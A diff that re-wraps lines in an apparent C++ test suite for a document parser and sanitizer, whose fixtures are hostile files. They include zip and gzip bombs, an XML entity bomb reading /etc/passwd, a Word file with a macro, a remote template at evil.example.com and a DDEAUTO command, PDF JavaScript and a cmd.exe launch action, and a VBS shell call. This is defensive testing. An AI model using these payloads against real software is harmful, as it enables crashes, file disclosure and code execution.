@@ -1,4 +1,5 @@
-// Files made to break their readers: each ends quickly, in little memory, and names the limit or the fact (issue "Bad input").
+// Files made to break their readers: each ends quickly, in little memory, and names the limit or the fact (issue "Bad
+// input").
 #include <doctest/doctest.h>
 #include <sys/resource.h>
 #include <zlib.h>
@@ -27,7 +28,9 @@ std::vector<std::string> traits_of(const Document& document) {
   names.erase(std::unique(names.begin(), names.end()), names.end());
   return names;
 }
-bool contains(const std::vector<std::string>& names, std::string_view name) { return std::find(names.begin(), names.end(), name) != names.end(); }
+bool contains(const std::vector<std::string>& names, std::string_view name) {
+  return std::find(names.begin(), names.end(), name) != names.end();
+}
 
 std::string png_header(std::uint32_t width, std::uint32_t height) {
   std::string png("\x89PNG\r\n\x1A\n\0\0\0\rIHDR", 16);
@@ -46,9 +49,11 @@ constexpr long milliseconds_allowed = 15'000;
 constexpr long milliseconds_allowed = 1000;  // of processor time, for each input
 #endif
 
-// 170 bytes that unpack to themselves, made of stored blocks and copies after Russ Cox, "Zip Files All The Way Down" (2010).
+// 170 bytes that unpack to themselves, made of stored blocks and copies after Russ Cox, "Zip Files All The Way Down"
+// (2010).
 constexpr std::string_view quine =
-    "H4sICAAAAAAAA2EuZ3oAABQA6/8fiwgIAAAAAAADYS5negAAFADr/0KIIcQAAAUA+v9CiCHEAAAFAPr/AAUA+v8AFADr/0KIIcQAAAUA+v8ABQD6/wAUAOv/QoghxAAAFADr/0KIIcQAABQA6/9CiCHEAAAUAOv/QoghxAAAFADr/0KI"
+    "H4sICAAAAAAAA2EuZ3oAABQA6/8fiwgIAAAAAAADYS5negAAFADr/0KIIcQAAAUA+v9CiCHEAAAFAPr/AAUA+v8AFADr/0KIIcQAAAUA+v8ABQD6/"
+    "wAUAOv/QoghxAAAFADr/0KIIcQAABQA6/9CiCHEAAAUAOv/QoghxAAAFADr/0KI"
     "IcQAAAAA//8DANG3zSWqAAAAQoghxAAAAAD//wMA0bfNJaoAAAA=";
 
 std::string repeated(const std::string& piece, int times) {
@@ -77,24 +82,38 @@ TEST_CASE("hostile files end within their limits and name them") {
   std::string layers = std::string(32u << 20, 'A');
   std::string filters;
   for (int i = 0; i < 8; ++i) layers = deflated(layers), filters += "/FlateDecode ";
-  const auto pdf_of = [](const std::string& objects) { return "%PDF-1.5\n" + objects + "trailer <</Root 1 0 R>>\n%%EOF\n"; };
+  const auto pdf_of = [](const std::string& objects) {
+    return "%PDF-1.5\n" + objects + "trailer <</Root 1 0 R>>\n%%EOF\n";
+  };
   std::string deep_rtf = "{\\rtf1 ";
   deep_rtf.append(300'000, '{');
   std::string deep_xml = "<?xml version=\"1.0\"?><svg>";
   for (int i = 0; i < 200'000; ++i) deep_xml += "<g>";
   const std::string laughs =
-      "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c SYSTEM \"file:///etc/passwd\">]><w:document><w:t>&b;&c;</w:t></w:document>";
-  const std::string types = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
+      "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c "
+      "SYSTEM \"file:///etc/passwd\">]><w:document><w:t>&b;&c;</w:t></w:document>";
+  const std::string types =
+      "<Types><Override PartName=\"/word/document.xml\" "
+      "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
 
   struct Row {
     std::string says, bytes, name, trait;
     std::size_t most = 64u << 20;  // bytes kept
   };
   const Row rows[] = {
-      {"a drawing of nothing but ampersands", "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"" + std::string(2u << 20, '&') + "\">" + std::string(4u << 20, '&') + "</a></svg>", "a.svg", ""},
-      {"an element of event handlers alone", "<svg xmlns=\"http://www.w3.org/2000/svg\"><a " + repeated(" onx=1", 500'000) + "/></svg>", "a.svg", "limit.steps"},
-      {"an animation of a million addresses", "<svg xmlns=\"http://www.w3.org/2000/svg\"><animate attributeName=\"href\" values=\"" + repeated("a:b;", 1'000'000) + "\"/></svg>", "a.svg", ""},
-      {"a playlist of half a million shares", "#EXTM3U\n" + repeated("\\\\203.0.113.9\\s\\a\n", 200'000), "a.m3u", "shortcut.remote_share"},
+      {"a drawing of nothing but ampersands",
+       "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"" + std::string(2u << 20, '&') + "\">" +
+           std::string(4u << 20, '&') + "</a></svg>",
+       "a.svg", ""},
+      {"an element of event handlers alone",
+       "<svg xmlns=\"http://www.w3.org/2000/svg\"><a " + repeated(" onx=1", 500'000) + "/></svg>", "a.svg",
+       "limit.steps"},
+      {"an animation of a million addresses",
+       "<svg xmlns=\"http://www.w3.org/2000/svg\"><animate attributeName=\"href\" values=\"" +
+           repeated("a:b;", 1'000'000) + "\"/></svg>",
+       "a.svg", ""},
+      {"a playlist of half a million shares", "#EXTM3U\n" + repeated("\\\\203.0.113.9\\s\\a\n", 200'000), "a.m3u",
+       "shortcut.remote_share"},
       {"a compound file of 25,000 storages", crowded_ole(), "a.doc", "limit.files"},
       {"a flat zip bomb", zip_of({{"zeros", zeros}}), "a.zip", "limit.compression_ratio"},
       {"a zip bomb below the layers that are opened", nested, "a.zip", "limit.layers"},
@@ -102,15 +121,24 @@ TEST_CASE("hostile files end within their limits and name them") {
       {"an archive of too many files", crowd, "a.zip", "limit.files"},
       {"a gzip bomb", testing::gzipped(zeros), "a.gz", "limit.compression_ratio"},
       {"a gzip that holds itself", *from_base64(quine), "a.gz", "limit.layers"},
-      {"a document whose XML is a bomb", zip_of({{"[Content_Types].xml", types}, {"word/document.xml", zeros}}), "a.docx", "limit.compression_ratio"},
-      {"entities in a document", zip_of({{"[Content_Types].xml", types}, {"word/document.xml", laughs}}), "a.docx", "office.dtd"},
+      {"a document whose XML is a bomb", zip_of({{"[Content_Types].xml", types}, {"word/document.xml", zeros}}),
+       "a.docx", "limit.compression_ratio"},
+      {"entities in a document", zip_of({{"[Content_Types].xml", types}, {"word/document.xml", laughs}}), "a.docx",
+       "office.dtd"},
       {"a PDF stream in eight layers",
-       pdf_of("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/Contents 4 0 R>> endobj\n"
-              "4 0 obj <</Filter[" + filters + "]/Length " + std::to_string(layers.size()) + ">> stream\n" + layers + "\nendstream endobj\n"),
+       pdf_of("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n3 0 "
+              "obj <</Type/Page/Parent 2 0 R/Contents 4 0 R>> endobj\n"
+              "4 0 obj <</Filter[" +
+              filters + "]/Length " + std::to_string(layers.size()) + ">> stream\n" + layers + "\nendstream endobj\n"),
        "a.pdf", "limit.compression_ratio"},
-      {"an object stream that is a bomb", pdf_of("1 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>> stream\n" + deflated(zeros) + "\nendstream endobj\n"), "a.pdf",
-       "limit.compression_ratio"},
-      {"a PDF whose page tree is a loop", pdf_of("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>> endobj\n"), "a.pdf", "pdf.damaged"},
+      {"an object stream that is a bomb",
+       pdf_of("1 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 99>> stream\n" + deflated(zeros) +
+              "\nendstream endobj\n"),
+       "a.pdf", "limit.compression_ratio"},
+      {"a PDF whose page tree is a loop",
+       pdf_of("1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>> "
+              "endobj\n"),
+       "a.pdf", "pdf.damaged"},
       {"a picture of 10^5 by 10^5 pixels", png_header(100'000, 100'000), "a.png", "limit.pixels"},
       {"an RTF of 300,000 open groups", deep_rtf, "a.rtf", "limit.steps"},
       {"an SVG of 200,000 open elements", deep_xml + "<script>eval(1)</script>", "a.svg", "svg.script"},
@@ -127,7 +155,8 @@ TEST_CASE("hostile files end within their limits and name them") {
     const auto names = traits_of(document);
     if (!row.trait.empty()) CHECK_MESSAGE(contains(names, row.trait), row.trait);
     if (row.trait.starts_with("limit.")) CHECK(contains(document.limits, row.trait.substr(6)));
-    MESSAGE(row.says << ": " << took << " ms, " << (after.ru_maxrss - before.ru_maxrss) / 1024 << " MB more at the peak");
+    MESSAGE(row.says << ": " << took << " ms, " << (after.ru_maxrss - before.ru_maxrss) / 1024
+                     << " MB more at the peak");
     CHECK(took < milliseconds_allowed);
     CHECK(document.arena.used() <= row.most);
   }
@@ -152,29 +181,46 @@ TEST_CASE("a compound file whose sectors point in circles is read without end or
 
 TEST_CASE("sanitized files open and have lost what runs") {
   const std::string types =
-      "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
+      "<Types><Override PartName=\"/word/document.xml\" "
+      "ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
       "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>";
   const std::string rels =
       "<Relationships><Relationship Id=\"r1\" Type=\"http://x/vbaProject\" Target=\"vbaProject.bin\"/>"
-      "<Relationship Id=\"r2\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example.com/t.dotm\" TargetMode=\"External\"/></Relationships>";
-  const std::string body = "<w:document><w:p><w:t>Report</w:t></w:p><w:fldSimple w:instr=\"DDEAUTO cmd &quot;/c x&quot;\"/></w:document>";
-  const auto docm = zip_of({{"[Content_Types].xml", types}, {"word/_rels/document.xml.rels", rels}, {"word/document.xml", body}, {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
-  const auto spelled = zip_of({{"[Content_Types].xml", types},
-                               {"word/_rels/document.xml.rels",
-                                "<x:Relationships><x:Relationship\tId='r1' Type = 'http://x/vba&#80;roject' Target='vbaProject.bin'/>"
-                                "<x:Relationship Id='>' Type='http://x/attachedTemplate' Target = 'http://evil.example.com/t.dotm'\n TargetMode\t='&#69;xternal'/></x:Relationships>"},
-                               {"word/document.xml", "<z:document><z:p><z:t>Report</z:t></z:p><z:fldSimple q='>' z:instr = '&#68;DEAUTO cmd /c x'/></z:document>"},
-                               {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
+      "<Relationship Id=\"r2\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example.com/t.dotm\" "
+      "TargetMode=\"External\"/></Relationships>";
+  const std::string body =
+      "<w:document><w:p><w:t>Report</w:t></w:p><w:fldSimple w:instr=\"DDEAUTO cmd &quot;/c x&quot;\"/></w:document>";
+  const auto docm = zip_of({{"[Content_Types].xml", types},
+                            {"word/_rels/document.xml.rels", rels},
+                            {"word/document.xml", body},
+                            {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
+  const auto spelled = zip_of(
+      {{"[Content_Types].xml", types},
+       {"word/_rels/document.xml.rels",
+        "<x:Relationships><x:Relationship\tId='r1' Type = 'http://x/vba&#80;roject' Target='vbaProject.bin'/>"
+        "<x:Relationship Id='>' Type='http://x/attachedTemplate' Target = 'http://evil.example.com/t.dotm'\n "
+        "TargetMode\t='&#69;xternal'/></x:Relationships>"},
+       {"word/document.xml",
+        "<z:document><z:p><z:t>Report</z:t></z:p><z:fldSimple q='>' z:instr = '&#68;DEAUTO cmd /c x'/></z:document>"},
+       {"word/vbaProject.bin", "\xD0\xCF\x11\xE0 macro"}});
   const std::string pdf =
-      "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction <</S/JavaScript/JS(app.alert\\(1\\))>> >> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
-      "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/Launch/F(cmd.exe)>> >>]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n";
+      "%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction <</S/JavaScript/JS(app.alert\\(1\\))>> >> endobj\n2 0 "
+      "obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
+      "3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 "
+      "1]/A<</S/Launch/F(cmd.exe)>> >>]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n";
   struct Row {
     std::string says, bytes, kind;
     std::vector<std::string> gone;
   };
   const Row rows[] = {
-      {"a Word file with a macro, a remote template and DDE", docm, "docm", {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
-      {"the same in other ways that XML has to write it", spelled, "docm", {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
+      {"a Word file with a macro, a remote template and DDE",
+       docm,
+       "docm",
+       {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
+      {"the same in other ways that XML has to write it",
+       spelled,
+       "docm",
+       {"office.macro", "office.vba_project", "office.remote_template", "office.dde"}},
       {"a PDF with a script and a launch action", pdf, "pdf", {"pdf.javascript", "pdf.open_action", "pdf.launch"}},
   };
   for (const auto& row : rows) {
@@ -209,7 +255,8 @@ TEST_CASE("files are told by content, whatever their name says") {
       {"a calendar", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "a", "ics"},
       {"nothing", "", "a.exe", "empty"},
       {"plain words", "Hello there.\n", "a.exe", "text"},
-      {"a script by its words", "Set x = CreateObject(\"WScript.Shell\")\nx.Run \"calc\"\nOn Error Resume Next\n", "readme", "vbs"},
+      {"a script by its words", "Set x = CreateObject(\"WScript.Shell\")\nx.Run \"calc\"\nOn Error Resume Next\n",
+       "readme", "vbs"},
       {"RTF as short as Word takes it", "{\\rt xx}", "a.doc", "rtf"},
   };
   for (const auto& row : rows) {
